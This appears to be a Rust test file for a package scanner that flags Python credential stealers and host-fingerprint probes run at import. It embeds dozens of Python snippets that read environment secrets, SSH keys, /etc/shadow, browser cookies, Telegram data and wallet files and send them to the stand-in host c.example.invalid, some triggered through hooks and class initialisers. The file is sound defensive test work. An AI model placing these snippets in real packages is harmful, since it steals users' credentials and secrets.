@@ -1,0 +1,224 @@
+//! Secrets, host identity and the ways they leave at load, as tester t11 spelled them: the
+//! environment taken whole in any spelling, secret variables named through the name table or
+//! by their words, credential stores named by path component, f-string, glob or call, the
+//! network reached through name-lookup tools, TLS sockets, pycurl, XML-RPC and the browser, the
+//! user or host name sent (a dependency-confusion probe), and stealer functions reached at load
+//! through hooks, classes, partials and chains of calls. Every source is defanged (hosts under
+//! `example.invalid`) and only scanned. Benign look-alikes must stay below the grade.
+
+use airlock::analyse::BudgetLimits;
+use airlock::finding::Severity;
+use airlock::scan::{scan_file, FileReport};
+
+#[path = "support/pysrc.rs"]
+mod pysrc;
+use pysrc::{package, worst};
+
+fn summary(r: &FileReport) -> Vec<String> {
+    r.findings
+        .iter()
+        .map(|f| format!("{} {} {}", f.rule.id, f.severity, f.message))
+        .collect()
+}
+
+const POST: &str = "import requests\nrequests.post('https://c.example.invalid/u', data=str(x))\n";
+const LOOKUP: &str = "import socket\nsocket.gethostbyname(str(info)[:50] + '.c.example.invalid')\n";
+
+/// `x = <read>` at import, then a post of `x`: each read is a secret (critical stealer).
+const SECRET_READS: &[(&str, &str)] = &[
+    ("env-comprehension", "import os\nx = {k: os.environ[k] for k in os.environ}\n"),
+    ("environb", "import os\nx = dict(os.environb)\n"),
+    ("environ-data", "import os\nx = os.environ._data\n"),
+    ("dunder-import-copy", "x = __import__('os').environ.copy()\n"),
+    ("keys-then-values", "import os\nx = [(k, os.getenv(k)) for k in list(os.environ)]\n"),
+    ("env-command", "import subprocess\nx = subprocess.check_output(['env'])\n"),
+    ("posix-environ", "x = dict(__import__('posix').environ)\n"),
+    ("name-in-pieces", "import os\nx = os.environ.get('GITHUB_' + 'TOKEN')\n"),
+    ("name-bound", "import os\nK = 'GITHUB_TOKEN'\nx = os.environ[K]\n"),
+    ("getitem", "import os\nx = os.environ.__getitem__('AWS_SECRET_ACCESS_KEY')\n"),
+    ("getenv-alias", "from os import getenv as ge\nx = ge('AWS_SECRET_ACCESS_KEY')\n"),
+    ("key-last-word", "import os\nx = os.getenv('OPENAI_KEY')\n"),
+    ("lower-case-name", "import os\nx = os.getenv('github_token')\n"),
+    ("pass-word", "import os\nx = os.environ['TWINE_PASS']\n"),
+    ("database-url", "import os\nx = os.environ['DATABASE_URL']\n"),
+    ("ssh-agent", "import os\nx = os.environ['SSH_AUTH_SOCK']\n"),
+    ("f-string-path", "import os\nx = open(f\"{os.environ['HOME']}/.ssh/id_rsa\").read()\n"),
+    ("glob-keys", "import glob, os\nx = [open(p).read() for p in glob.glob(os.path.expanduser('~/.s*/id_*'))]\n"),
+    ("pgpass", "import os\nx = open(os.path.expanduser('~/.pgpass')).read()\n"),
+    ("shadow", "x = open('/etc/shadow').read()\n"),
+    ("keychain", "import os\nx = open(os.path.expanduser('~/Library/Keychains/login.keychain-db'), 'rb').read()\n"),
+    ("azure", "import os\nx = open(os.path.expanduser('~/.azure/accessTokens.json')).read()\n"),
+    ("netrc-module", "import netrc\nx = netrc.netrc().hosts\n"),
+    ("keyring", "import keyring\nx = keyring.get_password('github', 'user')\n"),
+    ("ssh-agent-keys", "import paramiko\nx = paramiko.Agent().get_keys()\n"),
+    ("chrome-windows", "import os\nx = open(os.environ['LOCALAPPDATA'] + r'\\Google\\Chrome\\User Data\\Default\\Network\\Cookies', 'rb').read()\n"),
+    ("telegram", "import os\nx = os.listdir(os.path.join(os.environ['APPDATA'], 'Telegram Desktop', 'tdata'))\n"),
+    ("wallet-extension", "import os\nx = os.listdir(os.path.join(os.environ['LOCALAPPDATA'], 'Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'))\n"),
+];
+
+/// A secret read at import, then one of these senders at import (critical stealer).
+const SENDERS: &[(&str, &str)] = &[
+    ("xmlrpc", "import xmlrpc.client\nxmlrpc.client.ServerProxy('https://c.example.invalid/').log(x)\n"),
+    ("webbrowser", "import webbrowser\nwebbrowser.open('https://c.example.invalid/u?t=' + str(x))\n"),
+    ("pycurl", "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://c.example.invalid/u?t=' + str(x))\nc.perform()\n"),
+    ("tls-socket", "import socket, ssl\ns = ssl.create_default_context().wrap_socket(socket.socket(), server_hostname='c.example.invalid')\ns.connect(('c.example.invalid', 443))\ns.send(str(x).encode())\n"),
+    ("nslookup", "import subprocess\nsubprocess.call(['nslookup', str(x) + '.c.example.invalid'])\n"),
+];
+
+/// A stealer function (a secret read and a post in one body), reached at load.
+const STEALER_FN: &str = "def _f(*a):\n    import os, requests\n    requests.post('https://c.example.invalid/u', data=os.environ.get('GITHUB_TOKEN'))\n";
+const REACHED: &[(&str, &str)] = &[
+    ("excepthook", "import sys\nsys.excepthook = _f\n"),
+    (
+        "init-subclass",
+        "class B:\n    def __init_subclass__(cls):\n        _f()\nclass C(B):\n    pass\n",
+    ),
+    (
+        "instance-init",
+        "class C:\n    def __init__(self):\n        _f()\n_c = C()\n",
+    ),
+    (
+        "call-chain",
+        "def a():\n    b()\ndef b():\n    c()\ndef c():\n    _f()\na()\n",
+    ),
+    (
+        "nested-def",
+        "def outer():\n    def inner():\n        _f()\n    inner()\nouter()\n",
+    ),
+    ("partial", "import functools\nfunctools.partial(_f, 1)()\n"),
+];
+
+/// `info = <identity>` at import, then a name lookup built from it (high host fingerprint).
+const IDENTITIES: &[(&str, &str)] = &[
+    ("env-user", "import os\ninfo = os.environ.get('USER')\n"),
+    (
+        "env-windows",
+        "import os\ninfo = os.environ['USERNAME'] + os.environ['COMPUTERNAME']\n",
+    ),
+    (
+        "pwd-entry",
+        "import os\ninfo = __import__('pwd').getpwuid(os.getuid()).pw_name\n",
+    ),
+    (
+        "whoami",
+        "info = __import__('subprocess').check_output(['whoami'])\n",
+    ),
+    ("etc-hostname", "info = open('/etc/hostname').read()\n"),
+    ("uname-node", "import os\ninfo = os.uname().nodename\n"),
+    (
+        "getuser-alias",
+        "from getpass import getuser as gu\ninfo = gu()\n",
+    ),
+    (
+        "report-dict",
+        "import getpass, socket\ninfo = {}\ninfo['u'] = getpass.getuser()\n",
+    ),
+];
+
+#[test]
+fn secrets_read_in_any_spelling_and_sent_at_load_are_stealers() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    let mut check = |case: String, src: String, rule: &str, want: Severity| {
+        let p = package(dir.path(), &case, "__init__.py", &src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, rule) != Some(want) {
+            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
+        }
+    };
+    for (case, read) in SECRET_READS {
+        check(
+            format!("read-{case}"),
+            format!("{read}{POST}"),
+            "python-credential-stealer",
+            Severity::Critical,
+        );
+    }
+    for (case, send) in SENDERS {
+        check(
+            format!("send-{case}"),
+            format!("import os\nx = os.environ.get('GITHUB_TOKEN')\n{send}"),
+            "python-credential-stealer",
+            Severity::Critical,
+        );
+    }
+    for (case, reach) in REACHED {
+        check(
+            format!("reach-{case}"),
+            format!("{STEALER_FN}{reach}"),
+            "python-credential-stealer",
+            Severity::Critical,
+        );
+    }
+    for (case, who) in IDENTITIES {
+        check(
+            format!("who-{case}"),
+            format!("{who}{LOOKUP}"),
+            "python-host-fingerprint",
+            Severity::High,
+        );
+    }
+    check(
+        "who-curl-argv".into(),
+        "import getpass, subprocess\nsubprocess.run(['curl', 'https://c.example.invalid/?u=' + getpass.getuser()])\n".into(),
+        "python-host-fingerprint",
+        Severity::High,
+    );
+    check(
+        "who-nslookup".into(),
+        "import socket, subprocess\nsubprocess.run(['nslookup', socket.gethostname() + '.c.example.invalid'])\n".into(),
+        "python-host-fingerprint",
+        Severity::High,
+    );
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+/// Shapes near the rules that are not stealers or probes: variables whose names hold a secret
+/// word inside another (`TOKENIZERS_PARALLELISM`), the environment handed to a child process or
+/// only counted or tested, a glob over sources, the host's own address looked up, the user's
+/// name in a local cache path beside a download.
+#[test]
+fn neighbours_of_secrets_and_identity_are_not_graded_so() {
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "tokenizers-variable",
+            "__init__.py",
+            "import os, requests\nx = os.environ.get('TOKENIZERS_PARALLELISM', 'false')\nn = os.getenv('MAX_TOKENS')\nrequests.get('https://c.example.invalid/version')\n",
+        ),
+        (
+            "env-to-child",
+            "__init__.py",
+            "import os, subprocess, requests\nenv = os.environ\nsubprocess.run(['echo', 'hi'], env=os.environ)\nn = len(os.environ)\nok = 'HOME' in os.environ\nkeys = sorted(os.environ)\nrequests.get('https://c.example.invalid/version')\n",
+        ),
+        (
+            "glob-sources",
+            "__init__.py",
+            "import glob, requests\nfiles = glob.glob('src/**/*.py')\nrequests.get('https://c.example.invalid/version')\n",
+        ),
+        (
+            "own-address",
+            "__init__.py",
+            "import os, socket\nMASTER_IP = socket.gethostbyname(os.environ.get('MASTER_ADDR', socket.gethostname()))\nME = socket.gethostbyname(socket.gethostname())\n",
+        ),
+        (
+            "user-cache-dir",
+            "setup.py",
+            "import getpass, os, tempfile, urllib.request\ncache = os.path.join(tempfile.gettempdir(), 'demo-build-' + getpass.getuser())\nos.makedirs(cache, exist_ok=True)\nurllib.request.urlretrieve('https://files.example.invalid/prebuilt.tar.gz', os.path.join(cache, 'prebuilt.tar.gz'))\n",
+        ),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    for (case, file, src) in cases {
+        let p = package(dir.path(), case, file, src);
+        let r = scan_file(&p, BudgetLimits::default());
+        let graded = ["python-credential-stealer", "python-host-fingerprint"]
+            .iter()
+            .filter_map(|rule| worst(&r, rule))
+            .next();
+        // A download at load stays what it is (network at load, medium); nothing more.
+        if graded.is_some() || r.worst().is_some_and(|w| w > Severity::Medium) {
+            wrong.push(format!("{case}: {:?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
